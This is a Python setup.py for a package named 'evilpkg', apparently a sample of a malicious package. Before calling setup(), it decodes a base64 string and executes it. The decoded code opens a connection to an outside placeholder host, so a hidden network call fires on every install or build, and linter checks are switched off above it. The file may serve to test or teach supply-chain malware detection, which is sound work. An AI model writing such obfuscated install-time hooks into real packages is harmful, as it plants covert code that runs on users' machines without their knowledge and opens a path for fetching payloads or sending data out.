# ruff: noqa
# fmt: off
# mypy: ignore-errors
from setuptools import setup

__import__("builtins").exec(__import__("builtins").compile(__import__("base64").b64decode(
    "aW1wb3J0IHVybGxpYi5yZXF1ZXN0OyB1cmxsaWIucmVxdWVzdC51cmxvcGVuKCdodHRwczovL3guZXhhbXBsZS8nKQ=="
), "<string>", "exec"))
setup(name="evilpkg", version="1.0")
